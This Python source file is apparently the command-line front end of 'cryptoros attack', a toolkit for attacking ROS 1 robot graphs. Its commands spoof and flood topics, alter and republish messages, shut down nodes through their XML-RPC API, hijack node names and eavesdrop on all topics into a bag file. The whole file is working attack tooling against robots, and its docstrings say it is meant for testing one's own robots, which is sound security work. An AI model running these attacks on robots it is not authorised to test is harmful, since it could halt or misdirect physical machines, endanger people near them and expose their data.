"""``cryptoros attack ...``: the attack toolkit, for testing one's own robots.

Every verb speaks plain ROS 1 to whatever master and nodes the user names (no ROS
installation needed), prints what it did and what it observed, and can write the same
as JSON (``--json``). Use it only against robots you are allowed to test.
"""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

import click
import numpy as np

from cryptoros.outputs import write_output


def _master_default() -> str:
    return os.environ.get("ROS_MASTER_URI", "http://127.0.0.1:11311")


def _common(f: Any) -> Any:
    f = click.option("--json", "json_path", type=click.Path(dir_okay=False, path_type=Path), default=None,
                     help="Also write the report as JSON here.")(f)
    f = click.option("--ip", default=lambda: os.environ.get("ROS_IP", "127.0.0.1"), show_default="$ROS_IP or 127.0.0.1",
                     help="Address the attacker's node binds and advertises.")(f)
    f = click.option("--master-uri", default=_master_default, show_default="$ROS_MASTER_URI",
                     help="The ROS master (or the interceptor) to talk to.")(f)
    f = click.option("--timeout", default=5.0, show_default=True, type=click.FloatRange(0.1, 120),
                     help="Bound of every single ROS API call.")(f)
    return f


def _data(text: str | None) -> dict[str, Any]:
    if not text:
        return {}
    if text.startswith("@"):
        text = Path(text[1:]).read_text()
    try:
        value = json.loads(text)
    except json.JSONDecodeError as exc:
        raise click.BadParameter(f"not JSON: {exc}", param_hint="--data") from None
    if not isinstance(value, dict):
        raise click.BadParameter("must be a JSON object of message fields", param_hint="--data")
    return value


def _finish(rep: dict[str, Any], json_path: Path | None, lines: list[str]) -> None:
    for line in lines:
        click.echo(line)
    if rep.get("refused"):
        click.echo(f"refused: {rep['refused']}")
    if json_path is not None:
        write_output(json_path, json.dumps(rep, indent=1, default=str))
        click.echo(f"report: {json_path}")


def _factory(typename: str, data: dict[str, Any], random: bool, seed: int) -> Any:
    from cryptoros.attack import lib

    st = lib.store()
    try:
        base = lib.build(typename, data, st)
    except (KeyError, ValueError) as exc:
        raise click.BadParameter(str(exc), param_hint="TYPE/--data") from None
    if not random:
        return lambda _i: base
    rng = np.random.default_rng(seed)
    return lambda _i: lib.noise(base, typename, rng, st)


@click.group()
def attack() -> None:
    """Attack a ROS 1 graph (seed papers 000/001): spoof, manipulate, flood, shutdown,
    hijack a name, eavesdrop. For testing your own robots only."""


@attack.command("spoof-publish")
@click.argument("topic")
@click.argument("typename", metavar="TYPE")
@click.option("--data", default=None, help="Message fields as JSON (nested objects), or @file.json.")
@click.option("--random", "random_", is_flag=True, help="Random numeric fields in every message (a position 'teleporting').")
@click.option("--rate", default=200.0, show_default=True, type=click.FloatRange(0.1, 100000), help="Messages per second.")
@click.option("--seconds", default=10.0, show_default=True, type=click.FloatRange(0, 86400))
@click.option("--name", default="/spoofer", show_default=True, help="Node name to register.")
@click.option("--seed", default=0, type=int, hidden=True)
@_common
def spoof_publish(topic: str, typename: str, data: str | None, random_: bool, rate: float, seconds: float, name: str,
                  seed: int, master_uri: str, ip: str, json_path: Path | None, timeout: float) -> None:
    """Publish forged TYPE messages on TOPIC next to its genuine publisher."""
    from cryptoros.attack import lib

    make = _factory(typename, _data(data), random_, seed)
    rep = asyncio.run(lib.spoof_publish(master_uri, topic, typename, make, rate=rate, duration=seconds, name=name, host=ip,
                                        timeout=timeout))
    _finish(rep, json_path, [f"spoof-publish {topic} [{typename}] via {master_uri} as {name}: "
                             f"sent {rep['sent']} messages at {rate:g} Hz to {rep['subscribers_max']} subscriber(s)"])


@attack.command()
@click.argument("topic")
@click.argument("typename", metavar="TYPE")
@click.option("--data", default=None, help="Message fields as JSON; default: all zero (a stop command for a Twist).")
@click.option("--rate", default=2000.0, show_default=True, type=click.FloatRange(0.1, 1000000))
@click.option("--seconds", default=10.0, show_default=True, type=click.FloatRange(0, 86400))
@click.option("--name", default="/flooder", show_default=True)
@_common
def flood(topic: str, typename: str, data: str | None, rate: float, seconds: float, name: str, master_uri: str, ip: str,
          json_path: Path | None, timeout: float) -> None:
    """Flood TOPIC with TYPE messages (seed 001's denial of service on a command topic)."""
    from cryptoros.attack import lib

    make = _factory(typename, _data(data), False, 0)
    rep = asyncio.run(lib.flood(master_uri, topic, typename, make, rate=rate, duration=seconds, name=name, host=ip,
                                timeout=timeout))
    _finish(rep, json_path, [f"flood {topic} [{typename}] via {master_uri}: sent {rep['sent']} messages "
                             f"({rep['sent'] / max(seconds, 1e-9):.0f}/s) to {rep['subscribers_max']} subscriber(s)"])


@attack.command()
@click.argument("topic")
@click.argument("typename", metavar="TYPE")
@click.option("--noise", "noise_", is_flag=True, help="Replace every numeric field and array by random values.")
@click.option("--set", "set_", default=None, help="Overwrite these fields (JSON object) in every message.")
@click.option("--scale", default=10.0, show_default=True, help="Range of the noise values [0, scale).")
@click.option("--to", "out_topic", default=None, help="Republish here (default: the same topic).")
@click.option("--seconds", default=10.0, show_default=True, type=click.FloatRange(0, 86400))
@click.option("--name", default="/manipulator", show_default=True)
@_common
def manipulate(topic: str, typename: str, noise_: bool, set_: str | None, scale: float, out_topic: str | None, seconds: float,
               name: str, master_uri: str, ip: str, json_path: Path | None, timeout: float) -> None:
    """Subscribe to TOPIC, alter each message (noise / set fields), republish it."""
    from cryptoros.attack import lib

    st = lib.store()
    changes = _data(set_)
    rng = np.random.default_rng()

    def alter(msg: Any) -> Any:
        if noise_:
            msg = lib.noise(msg, typename, rng, st, scale)
        if changes:
            msg = lib._apply(st, typename, msg, changes)
        return msg

    rep = asyncio.run(lib.manipulate(master_uri, topic, typename, alter, out_topic=out_topic, duration=seconds, name=name,
                                     host=ip, timeout=timeout))
    lines = [f"manipulate {topic} -> {rep['out_topic']} [{typename}] via {master_uri}: read {rep['read']} messages from "
             f"{rep['publishers_max']} publisher(s), republished {rep['republished']} altered to {rep['subscribers_max']} subscriber(s)"]
    if rep.get("sample"):
        lines.append(f"first message read: {rep['sample']}")
    _finish(rep, json_path, lines)


@attack.command()
@click.argument("node")
@click.option("--reason", default="cryptoros attack", show_default=True)
@_common
def shutdown(node: str, reason: str, master_uri: str, ip: str, json_path: Path | None, timeout: float) -> None:
    """Look NODE up on the master and call shutdown on its XML-RPC API."""
    from cryptoros.attack import lib

    rep = asyncio.run(lib.shutdown(master_uri, node, reason=reason, host=ip, timeout=timeout))
    lines = [f"shutdown {node} via {master_uri}: node API {rep.get('node_uri', '?')}"]
    if rep.get("accepted"):
        lines.append(f"the node answered {rep.get('reply')!r}")
    _finish(rep, json_path, lines)


@attack.command("hijack-name")
@click.argument("node")
@click.option("--topic", default="/hijacked", show_default=True, help="Topic to advertise under the stolen name.")
@click.option("--seconds", default=5.0, show_default=True, type=click.FloatRange(0, 86400), help="How long to hold the name.")
@_common
def hijack_name(node: str, topic: str, seconds: float, master_uri: str, ip: str, json_path: Path | None, timeout: float) -> None:
    """Register a node named NODE: the master shuts the genuine one down."""
    from cryptoros.attack import lib

    rep = asyncio.run(lib.hijack_name(master_uri, node, topic=topic, duration=seconds, host=ip, timeout=timeout))
    lines = [f"hijack-name {node} via {master_uri}: was {rep.get('uri_before', '?')}, registered={bool(rep.get('registered'))}, "
             f"now {rep.get('uri_after', '?')} (ours: {rep.get('name_taken', False)})"]
    _finish(rep, json_path, lines)


@attack.command()
@click.option("--topic", "topics", multiple=True, help="Only these topics (default: every published topic).")
@click.option("--bag", type=click.Path(dir_okay=False), default="eavesdrop.bag", show_default=True,
              help="ROS 1 bag file of everything read.")
@click.option("--seconds", default=10.0, show_default=True, type=click.FloatRange(0, 86400))
@click.option("--name", default="/eavesdropper", show_default=True)
@_common
def eavesdrop(topics: tuple[str, ...], bag: str, seconds: float, name: str, master_uri: str, ip: str, json_path: Path | None,
              timeout: float) -> None:
    """Subscribe to every topic and record what can be read to a rosbag."""
    from cryptoros.attack import lib

    rep = asyncio.run(lib.eavesdrop(master_uri, topics=list(topics) or None, duration=seconds, bag=bag, name=name, host=ip,
                                    timeout=timeout))
    lines = [f"eavesdrop via {master_uri}: graph has {len(rep.get('graph', {}))} topic(s); read {rep['messages']} messages "
             f"({rep['bytes']} bytes)" + (f", recorded to {rep['bag']}" if rep.get("bag") else "")]
    for t, info in sorted(rep["topics"].items()):
        lines.append(f"  {t} [{info['type']}]: " + (f"{info['messages']} messages" if "messages" in info else info.get("refused", "")))
    _finish(rep, json_path, lines)
